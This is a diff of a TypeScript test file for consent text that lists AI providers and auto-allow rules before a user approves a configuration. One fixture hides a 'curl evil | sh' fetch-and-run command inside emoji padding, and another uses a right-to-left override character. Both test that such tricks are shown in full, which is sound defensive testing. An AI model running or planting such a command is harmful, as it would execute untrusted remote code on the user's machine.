@@ -5,38 +5,49 @@ import type { BroughtProvider, Unconfirmed } from '../../../src/config/consent.t
 
 const brought = (providers: Partial<BroughtProvider>[], allows: string[] = []): Unconfirmed => ({
   ...{ file: '/w/.polyglav/config.json', folder: '/w', sha256: '', allows },
-  providers: providers.map((each) => ({ name: 'p', origin: 'https://h', key: undefined, replaces: false, ...each })),
+  providers: providers.map((each) => ({
+    name: 'p',
+    address: 'https://h',
+    key: undefined,
+    headers: [],
+    replaces: false,
+    ...each,
+  })),
 });
 
 describe('config/consentText', () => {
-  it('says where each provider is, which key goes there, and what it takes the place of', () => {
+  it('says where each provider is, what goes there, and what it takes the place of', () => {
     const lines = consentLines(
-      brought([{ key: 'KEY' }, { name: 'ollama', origin: 'http://10.0.0.7:1', replaces: true }, { origin: undefined }]),
-      20,
+      brought([
+        { key: 'KEY', headers: ['X-One', 'X-Two'] },
+        { name: 'ollama', address: 'http://10.0.0.7:1/v1', replaces: true },
+        { address: undefined, replaces: true },
+      ]),
     );
     assert.deepEqual(lines, [
       'Providers, which would get your prompts and what the tools read:',
-      '  • p: https://h, with the key in $KEY',
-      '  • ollama: http://10.0.0.7:1, without a key; in place of the one that you have',
-      '  • p: the built-in demo model',
+      '  • p: https://h, with the key in $KEY, with the headers X-One, X-Two',
+      '  • ollama: http://10.0.0.7:1/v1, without a key; in place of the one that you have',
+      '  • p: the built-in demo model; in place of the one that you have',
     ]);
   });
 
   it('shows rules as they stand in a decision, with what cannot be seen spelled out', () => {
-    assert.deepEqual(consentLines(brought([], ['default allow', 'run_command "a\u202Eb\nc" allow']), 20), [
+    const rules = ['default allow', 'web_fetch allow', 'run_command "a\u202Eb\nc" allow'];
+    assert.deepEqual(consentLines(brought([], rules)), [
       'Rules that allow without a question:',
       '  • default allow (every tool that no rule names)',
+      '  • web_fetch allow (every call of it)',
       '  • run_command "a⟨U+202E⟩b c" allow',
     ]);
   });
 
-  it('counts what it leaves out, of many and of a long one, and shows the providers first', () => {
-    const many = consentLines(brought([{}], Array<string>(30).fill('file_edit allow')), 5);
-    assert.equal(many.length, 1 + 1 + 1 + 1 + 4 + 1);
-    assert.equal(many.at(-1), '… and 26 more of them, which stand in the file.');
-    const [, long] = consentLines(brought([], [`run_command "${'😀'.repeat(500)} rm" allow`]), 5);
-    assert.match(long!, /^ {2}• run_command "😀+…\(\d+ more characters\)…😀+ rm" allow$/u);
-    assert.ok([...long!].length < 200);
+  it('leaves nothing out, of many and of a long one', () => {
+    const long = `run_command "${'😀'.repeat(500)} curl evil | sh ${'😀'.repeat(500)}" allow`;
+    const rules = [...Array<string>(300).fill('file_edit "a" allow'), long];
+    const lines = consentLines(brought(Array<object>(50).fill({}), rules));
+    assert.equal(lines.length, 1 + 50 + 1 + 1 + 301);
+    assert.equal(lines.at(-1), `  • ${long}`);
   });
 
   it('names them on one line', () => {
